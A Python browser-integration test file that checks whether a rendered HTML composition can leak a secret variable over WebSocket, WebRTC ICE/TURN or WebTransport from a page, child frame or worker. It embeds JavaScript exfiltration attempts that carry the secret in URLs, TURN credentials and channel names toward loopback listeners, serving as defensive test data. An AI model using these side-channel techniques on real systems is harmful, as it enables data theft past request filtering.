"""A composition opens no connection that request routing does not see (issue 13).

Routing (capture.AssetServer) answers HTTP(S) requests only. These pages try the other
ways out: a WebSocket, an RTCPeerConnection gathering ICE candidates from a STUN/TURN
server, a WebTransport session, from the page, a child frame and a worker, carrying the
render's variables. Bare listeners on loopback stand in for the servers; a render must
leave each of them untouched. (Chromium's local network access checks stop a page's
WebSocket after the TCP handshake to loopback, and an attacker's server would not be on
loopback: the listeners count connections, not requests.)
"""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from hfaction.render.local import render_local
from hfaction.render.options import RenderOptions
from tests.integration.conftest import open_page
from tests.loopback import TcpListener, UdpListener

pytestmark = pytest.mark.browser

SECRET = "s3cr3t-variable"
FRAMES = 3  # 0.1 s at 30 fps

# Tries every way out, records how each attempt ended in window.__egress, and resolves
# window.__egressDone once each has ended (or failed to start). WSPORT, UDPPORT, TCPPORT
# are filled in by the test.
ATTEMPTS_JS = """
(() => {
  const top_ = window.top;
  const secret = ((top_.__hfVariables || {}).secret) || "unknown";
  const results = window.__egress = [];
  const attempts = [];
  const settle = (name, promise) => attempts.push(promise.then(
    (how) => results.push(name + ": " + how),
    (error) => results.push(name + ": threw " + (error && error.name))));
  settle("websocket", new Promise((resolve) => {
    const socket = new WebSocket("ws://127.0.0.1:WSPORT/?v=" + encodeURIComponent(secret));
    socket.onopen = () => resolve("open");
    socket.onclose = () => resolve("closed");
  }));
  settle("webrtc", (async () => {
    const connection = new RTCPeerConnection({ iceServers: [{
      urls: ["stun:127.0.0.1:UDPPORT", "turn:127.0.0.1:UDPPORT?transport=udp",
             "turn:127.0.0.1:TCPPORT?transport=tcp"],
      username: secret, credential: secret }] });
    connection.createDataChannel(secret);
    await connection.setLocalDescription(await connection.createOffer());
    return "gathering";
  })());
  settle("webtransport", (async () => {
    const session = new WebTransport("https://127.0.0.1:UDPPORT/?v=" + secret);
    await session.ready;
    return "ready";
  })());
  window.__egressDone = Promise.all(attempts);
})();
"""

# The page registers its timeline once its attempts have ended, or after 2 s: the render
# waits for them (and the browser stays open while ICE gathering sends its packets).
PAGE = """<!doctype html>
<html data-composition-variables='[{{"id": "secret", "type": "string", "label": "Secret",
                                     "default": "d"}}]'>
<head><meta charset="utf-8"><style>html, body {{ margin: 0; background: #224466; }}</style>
</head><body>
<div id="root" data-composition-id="main" data-width="64" data-height="64" data-duration="0.1"
     data-fps="30">{body}</div>
<script src="attempts.js"></script>
<script>
  const register = () => {{ window.__timelines.main = {{
    totalTime() {{ return this; }}, duration() {{ return 0.1; }} }}; }};
  Promise.race([Promise.all([window.__egressDone, ...{waits}]),
                new Promise((resolve) => setTimeout(resolve, 2000))]).then(register);
</script>
</body></html>
"""

CHILD = """<!doctype html><html><head><meta charset="utf-8"></head><body>
<script src="attempts.js"></script></body></html>
"""

# A worker gets no init script: only the browser's network stack stands in its way.
WORKER_JS = """
const socket = new WebSocket("ws://127.0.0.1:WSPORT/?from=worker");
socket.onopen = () => postMessage("open");
socket.onclose = () => postMessage("closed");
"""
WORKER_WAIT = """new Promise((resolve) => {
    const worker = new Worker("worker.js");
    worker.onmessage = (event) => resolve(event.data);
    worker.onerror = () => resolve("worker failed"); })"""


class Servers:
    """The loopback stand-ins: a WebSocket server, and a STUN/TURN server on UDP and TCP."""

    def __init__(self) -> None:
        self.websocket = TcpListener()
        self.turn_udp = UdpListener()
        self.turn_tcp = TcpListener()

    def fill(self, text: str) -> str:
        return (text.replace("WSPORT", str(self.websocket.port))
                .replace("UDPPORT", str(self.turn_udp.port))
                .replace("TCPPORT", str(self.turn_tcp.port)))

    def reached(self) -> dict[str, list[Any]]:
        time.sleep(0.5)  # anything sent before the browser closed has arrived by now
        return {name: got for name, got in (
            ("websocket", self.websocket.connections),
            ("turn_udp", self.turn_udp.datagrams),
            ("turn_tcp", self.turn_tcp.connections)) if got}

    def stop(self) -> None:
        for listener in (self.websocket, self.turn_udp, self.turn_tcp):
            listener.stop()


@pytest.fixture
def servers() -> Iterator[Servers]:
    started = Servers()
    yield started
    started.stop()


def write_project(folder: Path, servers: Servers, *, body: str = "", attempts: bool = True,
                  waits: tuple[str, ...] = (), extra: dict[str, str] | None = None) -> Path:
    folder.mkdir()
    (folder / "index.html").write_text(PAGE.format(body=body, waits=f"[{', '.join(waits)}]"))
    (folder / "attempts.js").write_text(servers.fill(ATTEMPTS_JS) if attempts else
                                        "window.__egressDone = Promise.resolve();")
    for name, text in (extra or {}).items():
        (folder / name).write_text(servers.fill(text))
    return folder


def render(project: Path, tmp_path: Path) -> None:
    """Planning (its page load) and a chunk worker (another), as ``hfaction render`` does."""
    result = render_local(project, tmp_path / "out.mp4",
                          RenderOptions(variables={"secret": SECRET}), workers=1)
    assert result.output.frames == FRAMES


def test_the_page_and_its_child_frames_open_no_websocket_nor_webrtc(
        tmp_path: Path, servers: Servers) -> None:
    project = write_project(
        tmp_path / "project", servers,
        body='<iframe src="child.html" style="width: 16px; height: 16px; border: 0"></iframe>',
        extra={"child.html": CHILD})
    render(project, tmp_path)
    assert servers.reached() == {}


def test_a_worker_opens_no_websocket(tmp_path: Path, servers: Servers) -> None:
    project = write_project(tmp_path / "project", servers, attempts=False, waits=(WORKER_WAIT,),
                            extra={"worker.js": WORKER_JS})
    render(project, tmp_path)
    assert servers.reached() == {}




STUB_CHECKS = """async () => {
  await window.__egressDone;
  const frame = document.querySelector("iframe").contentWindow;
  const made = document.body.appendChild(document.createElement("iframe")).contentWindow;
  const names = ["WebSocket", "RTCPeerConnection", "webkitRTCPeerConnection", "WebTransport"];
  const calls = {};
  for (const [where, win] of [["page", window], ["child", frame], ["made", made]]) {
    for (const name of names) {
      try { new win[name]("ws://127.0.0.1:WSPORT/"); calls[where + " " + name] = "made"; }
      catch (error) { calls[where + " " + name] = error.name; }
    }
    // No constructor up the stub's prototype chain connects either.
    for (let proto = win.WebSocket.prototype, depth = 0; proto && proto !== win.Object.prototype;
         proto = Object.getPrototypeOf(proto), depth++) {
      const key = where + " WebSocket.prototype^" + depth + ".constructor";
      try { new proto.constructor("ws://127.0.0.1:WSPORT/"); calls[key] = "made"; }
      catch (error) { calls[key] = error.name; }
    }
  }
  return JSON.stringify({
    attempts: window.__egress.slice().sort(),
    child: frame.__egress.slice().sort(),
    calls,
    // What a page that only feature-tests or type-checks sees is unchanged.
    typeofs: names.map((name) => typeof window[name]),
    statics: [WebSocket.CONNECTING, WebSocket.OPEN, WebSocket.CLOSING, WebSocket.CLOSED],
    instance: {} instanceof WebSocket,
    unlinked: Object.getPrototypeOf(WebSocket.prototype) === Object.prototype,
    runtime: typeof window.__hyperframes.getVariables,
  });
}"""


def test_the_page_meets_constructors_that_throw(tmp_path: Path, servers: Servers) -> None:
    project = write_project(
        tmp_path / "project", servers,
        body='<iframe src="child.html" style="width: 16px; height: 16px; border: 0"></iframe>',
        extra={"child.html": CHILD})
    with open_page(project, variables={"secret": SECRET}) as (page, _ready):
        seen = json.loads(page.page.evaluate(servers.fill(STUB_CHECKS)))
    blocked = ["webrtc: threw SecurityError", "websocket: threw SecurityError",
               "webtransport: threw SecurityError"]
    assert seen["attempts"] == blocked
    assert seen["child"] == blocked
    assert set(seen["calls"].values()) == {"SecurityError"}, seen["calls"]
    assert seen["typeofs"] == ["function"] * 4
    assert seen["statics"] == [0, 1, 2, 3]
    assert seen["instance"] is False
    assert seen["unlinked"] is True
    assert seen["runtime"] == "function"
    assert servers.reached() == {}
